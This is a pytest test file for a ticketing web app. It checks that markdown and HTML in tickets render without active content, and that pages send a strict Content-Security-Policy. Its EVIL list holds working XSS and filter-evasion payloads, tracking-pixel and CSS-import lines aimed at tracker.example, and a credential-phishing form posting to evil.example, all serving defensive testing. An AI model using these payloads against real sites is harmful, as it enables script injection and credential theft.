"""Cases 28 and 29: text that wants to be a page. Markdown is the only way in so far."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from types import SimpleNamespace
from typing import Any

import pytest

from accounts.viewer import Viewer
from tests import factories
from tests.factories import NOON
from tickets import lifecycle

pytestmark = pytest.mark.django_db
EVIL = [
    "<script>evil()</script>",
    "<img src=x onerror=evil()>",
    "<svg/onload=evil()>",
    "<iframe srcdoc='<script>evil()</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=evil()>'>",
    "<scr<script>ipt>evil()</scr</script>ipt>",
    "[x](javascript:evil())",
    "[x](JaVaScRiPt&colon;evil())",
    "[x](data:text/html;base64,ZXZpbA==)",
    "![x](https://tracker.example/pixel.png)",
    "<img src='https://tracker.example/pixel.png'>",
    "<style>@import url(https://tracker.example/x.css)</style>",
    "<a style='position:fixed;inset:0' href='https://evil.example'>over all</a>",
    "<form action='https://evil.example'><input name=password></form>",
    "```<img src=x onerror=evil()>\ncode\n```",
]
FORBIDDEN = {"iframe", "math", "object", "embed", "base", "style", "img", "mtext", "mglyph"}
OURS = ("/", "#", "?", "data:image/svg+xml")


class Active(HTMLParser):
    """Whatever a browser would run, fetch or send elsewhere, as it reads the page."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN:
            self.found.append(tag)
        for name, value in attrs:
            address = (value or "/").strip().lower()
            if name.startswith("on") or name in ("style", "srcdoc", "srcset"):
                self.found.append(f"{tag} {name}")
            if name in ("src", "action", "formaction") and not address.startswith(OURS):
                self.found.append(f"{tag} {name} {value}")
            if name == "href" and address.startswith(("javascript", "data:text", "vbscript")):
                self.found.append(f"{tag} {name} {value}")
            if tag == "link" and name == "href" and not address.startswith(OURS):
                self.found.append(f"{tag} {name} {value}")

    def handle_data(self, data: str) -> None:
        if self.cdata_elem == "script" and "evil()" in data:
            self.found.append("script")


@pytest.mark.parametrize("text", EVIL)
def test_case_28_and_29_through_the_pages(
    cast: SimpleNamespace, browser_of: Any, text: str
) -> None:
    ticket = factories.ticket(cast.developer, subject=text[:150], body=text, sdk_version=text[:40])
    lifecycle.reply(ticket=ticket, by=Viewer.of(cast.developer), body=text, now=NOON)
    for person, paths in (
        (cast.owner, ("/", "/tickets/", "/tickets/STAR-1/", "/tickets/STAR-1/live/")),
        (cast.engineer, ("/admin/queue/", "/admin/ticket/STAR-1/")),
    ):
        for path in paths:
            page = browser_of(person).get(path)
            assert Active(page.content.decode()).found == [], path


def test_case_28_the_policy_would_stop_it_anyway(cast: SimpleNamespace, browser_of: Any) -> None:
    factories.ticket(cast.developer)
    for person, path in ((cast.owner, "/tickets/STAR-1/"), (cast.lead, "/admin/ticket/STAR-1/")):
        policy = browser_of(person).get(path)["Content-Security-Policy"]
        assert "default-src 'none'" in policy
        assert "frame-ancestors 'none'" in policy
        assert "unsafe" not in policy
        assert re.search(r"img-src 'self' data:(;|$)", policy)
